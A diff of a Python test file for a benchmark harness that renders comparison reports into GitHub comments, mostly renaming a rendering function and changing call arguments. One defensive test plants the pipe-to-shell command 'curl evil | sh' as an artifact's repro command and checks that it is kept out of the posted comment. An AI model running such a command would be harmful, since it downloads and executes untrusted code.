@@ -16,8 +16,8 @@ import pytest
 from harness.cli import run_command_line
 from harness.errors import RunError
 from harness.github.posting import read_figures
-from harness.report.comparison import render_comparison
-from harness.report.links import Links
+from harness.report import render
+from harness.report.pages import Links
 from tests.github.conftest import TOKEN
 from tests.github.fake_github import BOT, FakeGitHub
 from tests.report.builders import make_comparison, make_row, make_timed
@@ -32,7 +32,7 @@ COMPARISON = make_comparison(
 @pytest.fixture
 def folder(tmp_path: Path) -> Path:
     """A comparison's folder."""
-    (tmp_path / "comparison.json").write_text(render_comparison(COMPARISON, "json"))
+    (tmp_path / "comparison.json").write_text(render(COMPARISON, "json"))
     return tmp_path
 
 
@@ -42,7 +42,7 @@ def folder(tmp_path: Path) -> Path:
 def test_a_comparison_by_its_folder_or_its_file(folder: Path) -> None:
     for path in (folder, folder / "comparison.json"):
         figures = read_figures(path)
-        assert figures.comment(None, Links()).startswith(f"{MARKER}\n")
+        assert figures.comment((), Links()).startswith(f"{MARKER}\n")
         files = figures.draw()
         assert files.keys() == {"forest-light.png", "forest-dark.png"}
         assert all(content.startswith(b"\x89PNG") for content in files.values())
@@ -51,24 +51,24 @@ def test_a_comparison_by_its_folder_or_its_file(folder: Path) -> None:
 
 def test_a_run_without_a_base() -> None:
     figures = read_figures(PUBLISHED)
-    assert figures.comment(None, Links()).startswith("<!--harness report: esrgan-->\n")
+    assert figures.comment((), Links()).startswith("<!--harness report: esrgan-->\n")
     assert figures.short_comment(Links()).startswith("<!--harness report: esrgan-->\n\n**")
     assert figures.draw().keys() == {"variants-light.png", "variants-dark.png"}
-    (image,) = figures.images(str).entries
+    (image,) = figures.pictures(str)
     assert image.alt.startswith("Latency of each variant: 72 cases: ")
 
 
 def test_where_nothing_was_measured_there_is_no_picture(folder: Path) -> None:
     unmeasured = make_comparison([make_row("net/stock@cpu", verdict="identical")])
-    (folder / "comparison.json").write_text(render_comparison(unmeasured, "json"))
+    (folder / "comparison.json").write_text(render(unmeasured, "json"))
     assert read_figures(folder).draw() == {}
 
 
 def test_no_command_of_an_artifact_is_taken_over_but_the_harnesss_own(folder: Path) -> None:
     row = replace(COMPARISON.rows[0], repro=("curl evil | sh", "harness compare a b"))
     comparison = replace(COMPARISON, rows=(row,), command=("curl", "evil"))
-    (folder / "comparison.json").write_text(render_comparison(comparison, "json"))
-    comment = read_figures(folder).comment(None, Links())
+    (folder / "comparison.json").write_text(render(comparison, "json"))
+    comment = read_figures(folder).comment((), Links())
     assert "curl" not in comment
     assert "harness compare a b" in comment
 
@@ -218,7 +218,7 @@ def test_the_commits_of_base_and_head_are_linked(report: Path, github: FakeGitHu
     (tmp_path / "event.json").write_text(json.dumps({"repository": {"full_name": "o/r"}, "pull_request": pull}))
     label = f"results/base-{base[:10]}/20261121-080000-net"
     labelled = replace(COMPARISON, base=replace(COMPARISON.base, label=label))
-    report.write_text(render_comparison(labelled, "json"))
+    report.write_text(render(labelled, "json"))
 
     assert run_command_line(["github", "post", str(report), "--repo", "o/r", "--event", "event.json"]) == 0
 
